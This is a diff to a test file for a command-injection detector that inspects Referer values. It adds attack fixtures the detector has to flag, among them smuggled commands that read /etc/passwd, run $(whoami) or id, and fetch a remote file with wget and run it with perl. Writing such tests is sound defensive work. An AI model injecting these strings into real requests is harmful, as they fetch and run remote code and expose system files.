@@ -145,13 +145,12 @@ describe('command-injection', () => {
 });
 
 describe('command-injection in a Referer, read as the URL it is', () => {
-  // a URL's own `/`, `;`, `&` and `#` are no shell separators: flags, matrix parameters and routes
+  // a bare name after a URL's own `;` or `&` is a flag, a matrix parameter, a route's parameter
   for (const benign of [
     'https://shop.example.com/list?sort=asc&id',
     'https://app.example.com/#/orders;id',
     'https://example.com/docs/cli;ls',
     'https://example.com/a?x=1&ps&who',
-    'www.example.com/;ls -al',
   ]) {
     it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectCommandInjection(benign, inReferer), undefined));
   }
@@ -161,6 +160,10 @@ describe('command-injection in a Referer, read as the URL it is', () => {
     ['www.example.com/?param=;/bin/ca? /et*/passwd', 'absolute-program'],
     ['https://example.com/x;cat /etc/passwd', 'program-on-sensitive-file'],
     ['https://example.com/?q=$(whoami)', 'command-substitution'],
+    ['https://example.com/?q=;id', 'command-after-separator'],
+    ['www.example.com/;ls -al', 'command-after-separator'],
+    ['http://example.com/upload.php;wget http://203.0.113.7/a.jpg;perl a.jpg', 'command-after-separator'],
+    ['https://example.com/x;wget${IFS}http://203.0.113.5/x', 'command-after-separator'],
   ]) {
     it(`reports ${JSON.stringify(attack)}`, () => {
       const hit = detectCommandInjection(attack as string, inReferer);
